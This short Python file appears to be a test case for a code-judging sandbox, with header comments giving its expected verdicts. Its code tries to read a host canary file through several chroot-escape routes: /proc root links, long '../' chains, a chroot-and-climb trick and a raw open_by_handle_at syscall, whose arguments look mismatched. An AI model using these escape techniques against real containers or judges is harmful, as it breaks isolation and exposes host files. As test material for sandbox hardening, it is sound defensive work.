#: tries: opens a file of the host by its name, and by every way around a changed root
#: task: token
#: verdict: wrong_answer runtime_error
#: harms: may read a file of the host

import ctypes
import os

path = CANARY_FILE
ways = [path, f"/proc/1/root{path}", f"/proc/self/root{path}", "../" * 40 + path.lstrip("/"), f"/oldroot{path}", f"/.old{path}"]
for way in ways:
    try:
        print(open(way).read())
        raise SystemExit
    except OSError:
        pass
try:
    os.chroot(".")
except OSError:
    pass
for up in range(30):
    try:
        os.chdir("..")
    except OSError:
        break
ways += [path.lstrip("/")]
for way in ways:
    try:
        print(open(way).read())
        break
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.syscall(304, -100, path.encode(), 0)  # open_by_handle_at
